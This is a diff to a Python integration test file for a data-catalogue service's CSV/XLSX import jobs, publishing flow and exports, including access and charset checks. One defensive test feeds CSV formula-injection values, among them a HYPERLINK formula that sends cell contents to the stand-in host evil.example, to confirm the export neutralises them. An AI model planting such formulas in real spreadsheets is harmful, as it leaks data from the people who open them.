@@ -1,6 +1,6 @@
 """Import and export through the gateway on real PostgreSQL and Kafka: an agency imports its catalogue from CSV
-and XLSX with per-row errors, submits it, the bureau publishes it, and the unified catalogue is exported as CSV,
-XLSX and DCAT-AP JSON-LD (A13.1, A14.1, A15.2)."""
+and XLSX as a job with per-row errors, submits it, the bureau publishes it, and the unified catalogue is exported
+as CSV, XLSX and DCAT-AP JSON-LD (A13.1, A14.1, A15.2)."""
 
 from __future__ import annotations
 
@@ -12,14 +12,15 @@ from typing import Any
 
 import httpx
 import pytest
+from catalog.imports import CSV, Polled, submit_import
+from catalog.imports import import_file as run_import
 from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]
 
 from catalog_svc.transfer.formats import XLSX_TYPE
 from catalog_svc.transfer.table import COLUMNS
-from harness import CITY, MeshStarter, city_admin, register_agency, register_client
+from harness import CITY, MeshStarter, assert_problem, city_admin, register_agency, register_client
 
 pytestmark = pytest.mark.integration
-CSV = {"content-type": "text/csv; charset=utf-8"}
 
 
 @dataclass
@@ -68,11 +69,17 @@ def csv_file(*rows: dict[str, Any]) -> bytes:
 
 
 async def import_file(
-    world: World, owner: dict[str, Any], body: bytes, *, headers: dict[str, str] = CSV, query: str = ""
-) -> httpx.Response:
-    return await world.gateway.post(
-        f"/api/catalog/imports{query}", content=body, headers={**owner["headers"], **headers}
-    )
+    world: World, owner: dict[str, Any], body: bytes, *, content_type: str = CSV, query: str = ""
+) -> Polled:
+    """The owner's system imports the file; its job, once ended."""
+    return await run_import(world.gateway, owner["headers"], body, content_type=content_type, query=query)
+
+
+def result(total: int, *, created: int = 0, updated: int = 0, unchanged: int = 0, submitted: int = 0,
+           refused: int = 0) -> dict[str, int]:  # fmt: skip
+    """A job's expected result, every count stated."""
+    return {"total": total, "created": created, "updated": updated, "unchanged": unchanged, "submitted": submitted,
+            "refused": refused}  # fmt: skip
 
 
 async def listed(world: World, owner: dict[str, Any], state: str) -> dict[str, str]:
@@ -94,13 +101,12 @@ async def test_an_agency_imports_its_catalogue_good_entries_become_drafts_bad_ro
         row("01-02/100003", item_length="eighteen"),  # row 6
         row("01-02/100004", name="不动产登记信息"),  # row 7
     )
-    response = await import_file(world, world.police, body)
-    assert response.status_code == 200, response.text
-    report = response.json()
-    assert report["imported"] == ["01-02/100001", "01-02/100004"]
-    assert report["submitted"] == []
-    assert [(e["row"], e["field"]) for e in report["errors"]] == [(4, "share_type"), (5, "code"), (6, "item_length")]
-    assert report["errors"][0]["code"] == "01-02/100002"
+    job = await import_file(world, world.police, body)
+    assert job.result == result(4, created=2, refused=2)
+    assert job.rows() == [(4, "share_type"), (5, "code"), (6, "item_length")]
+    assert job.job["errors"][0]["code"] == "01-02/100002"
+    assert job.job["error_count"] == 3
+    assert job.progress[-1] == (4, 4)
     assert set(await listed(world, world.police, "draft")) == {"01-02/100001", "01-02/100004"}
 
     entry = await world.gateway.get(
@@ -113,25 +119,47 @@ async def test_an_agency_imports_its_catalogue_good_entries_become_drafts_bad_ro
     assert current["tags"] == ["人口", "户籍"]
 
 
-async def test_a_file_with_nothing_importable_is_a_422_problem_listing_every_row(world: World) -> None:
-    response = await import_file(world, world.police, csv_file(row("01-02/100001", update_cycle="hourly")))
-    assert response.status_code == 422
-    assert response.headers["content-type"] == "application/problem+json"
-    assert [(e["row"], e["field"]) for e in response.json()["errors"]] == [(2, "update_cycle")]
+async def test_a_file_with_nothing_importable_fails_its_job_with_a_422_problem_listing_every_row(world: World) -> None:
+    job = await import_file(world, world.police, csv_file(row("01-02/100001", update_cycle="hourly")))
+    assert job.problem["status"] == 422
+    assert job.problem["type"] == "/problems/invalid-input"
+    assert [(e["row"], e["field"]) for e in job.problem["errors"]] == [(2, "update_cycle")]
+    assert job.rows() == [(2, "update_cycle")]
     header = await import_file(world, world.police, b"code,colour\n01-02/1,red\n")
-    assert header.status_code == 422
-    assert header.json()["errors"] == [{"row": 1, "field": "colour", "message": "unknown column"}]
+    assert header.problem["status"] == 422
+    assert header.problem["errors"] == [{"row": 1, "field": "colour", "message": "unknown column"}]
+
+
+async def test_a_body_in_a_type_or_charset_the_import_cannot_read_is_a_415_before_any_job_is_queued(
+    world: World,
+) -> None:
+    body = csv_file(row("01-02/100009"))
+    cases = [("text/csv; charset=klingon", "charset", "unknown"),
+             ("text/csv; charset=base64", "charset", "not a character set"),
+             ("text/csv; charset=unicode_escape", "charset", "not a character set"),
+             ("application/json", "format", "cannot tell the format of application/json")]  # fmt: skip
+    for content_type, field, message in cases:
+        response = await submit_import(world.gateway, world.police["headers"], body, content_type=content_type)
+        assert assert_problem(response, 415)["errors"] == [{"field": field, "message": message}]
+        assert "location" not in response.headers
+
+
+async def test_only_the_importing_agency_and_the_bureau_of_its_region_poll_its_job_A4_1_A15_2(world: World) -> None:
+    response = await submit_import(world.gateway, world.police["headers"], csv_file(row("01-02/100010")))
+    assert response.status_code == 202, response.text
+    location = response.headers["location"]
+    assert (await world.gateway.get(location, headers=world.inspector)).status_code == 200
+    assert (await world.gateway.get(location, headers=world.reviewer)).status_code == 200
+    # Another agency's system learns nothing, not even that the job exists.
+    assert_problem(await world.gateway.get(location, headers=world.water["headers"]), 404)
 
 
 async def test_imported_entries_are_submitted_published_and_exported_as_csv_xlsx_and_dcat(world: World) -> None:
     body = csv_file(row("01-02/200001"), row("01-02/200002", summary=None, share_type="conditional"))
-    response = await import_file(world, world.police, body, query="?submit=true")
-    assert response.status_code == 200, response.text
-    report = response.json()
-    assert report["imported"] == ["01-02/200001", "01-02/200002"]
-    assert report["submitted"] == ["01-02/200001"]
+    job = await import_file(world, world.police, body, query="?submit=true")
+    assert job.result == result(2, created=2, submitted=1)
     # The refused submission names its rules and rows; the entry stays a draft.
-    refused = {(e["field"], e["requirement"], e["row"]) for e in report["errors"]}
+    refused = {(e["field"], e["requirement"], e["row"]) for e in job.job["errors"]}
     assert ("summary", "A13.1", 3) in refused
     assert ("share_legal_basis", "A19.2", 3) in refused
     assert set(await listed(world, world.police, "draft")) == {"01-02/200002"}
@@ -175,17 +203,21 @@ async def test_imported_entries_are_submitted_published_and_exported_as_csv_xlsx
 
     # Re-importing the exported catalogue starts no new version of the published entry.
     again = await import_file(world, world.police, exported.content)
-    assert again.status_code == 200, again.text
-    assert again.json()["unchanged"] == ["01-02/200001"]
+    assert again.result == result(1, unchanged=1)
     versions = await world.gateway.get(f"/api/catalog/entries/{entry_id}/versions", headers=world.police["headers"])
     assert [v["state"] for v in versions.json()] == ["published"]
+    # A changed one starts the entry's next version, a draft; the published one stays.
+    changed = await import_file(world, world.police, csv_file(row("01-02/200001", name="常住人口信息")))
+    assert changed.result == result(1, updated=1)
+    versions = await world.gateway.get(f"/api/catalog/entries/{entry_id}/versions", headers=world.police["headers"])
+    assert [v["state"] for v in versions.json()] == ["published", "draft"]
 
 
 async def test_an_agency_cannot_import_over_another_agencys_entry_A15_2(world: World) -> None:
-    assert (await import_file(world, world.police, csv_file(row("01-02/300001")))).status_code == 200
-    response = await import_file(world, world.water, csv_file(row("01-02/300001", name="改名")))
-    assert response.status_code == 422
-    (error,) = response.json()["errors"]
+    assert (await import_file(world, world.police, csv_file(row("01-02/300001")))).result["created"] == 1
+    job = await import_file(world, world.water, csv_file(row("01-02/300001", name="改名")))
+    assert job.problem["status"] == 422
+    (error,) = job.problem["errors"]
     assert (error["row"], error["requirement"]) == (2, "A15.2")
 
 
@@ -198,10 +230,9 @@ async def test_an_xlsx_catalogue_imports_like_a_csv_one(world: World) -> None:
     sheet.append([row("01-02/400002", category="nowhere").get(c) for c in COLUMNS])
     data = io.BytesIO()
     workbook.save(data)
-    response = await import_file(world, world.water, data.getvalue(), headers={"content-type": XLSX_TYPE})
-    assert response.status_code == 200, response.text
-    assert response.json()["imported"] == ["01-02/400001"]
-    assert [(e["row"], e["field"]) for e in response.json()["errors"]] == [(4, "category")]
+    job = await import_file(world, world.water, data.getvalue(), content_type=XLSX_TYPE)
+    assert job.result == result(2, created=1, refused=1)
+    assert job.rows() == [(4, "category")]
 
 
 async def test_an_export_of_an_unknown_region_is_not_found(world: World) -> None:
@@ -214,8 +245,8 @@ async def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run_and_reim
 ) -> None:
     typed = {"name": '=HYPERLINK("http://evil.example/?"&A1,"人口")', "summary": "-2+3", "source_system": "@cmd",
              "tags": "+SUM(A1);人口"}  # fmt: skip
-    response = await import_file(world, world.police, csv_file(row("01-02/500001", **typed)), query="?submit=true")
-    assert response.json()["submitted"] == ["01-02/500001"], response.text
+    job = await import_file(world, world.police, csv_file(row("01-02/500001", **typed)), query="?submit=true")
+    assert job.result["submitted"] == 1, job.job
     entry_id = (await listed(world, world.police, "submitted"))["01-02/500001"]
     assert (await world.gateway.post(f"/api/catalog/entries/{entry_id}/approve", headers=world.reviewer)).is_success
 
@@ -229,6 +260,6 @@ async def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run_and_reim
     assert written["item_length"] == "18"  # numbers stay numbers
 
     again = await import_file(world, world.police, exported.content)
-    assert again.json()["unchanged"] == ["01-02/500001"], again.text
+    assert again.result["unchanged"] == 1, again.job
     entry = await world.gateway.get(f"/api/catalog/entries/{entry_id}", headers=world.police["headers"])
     assert entry.json()["current"]["name"] == typed["name"]
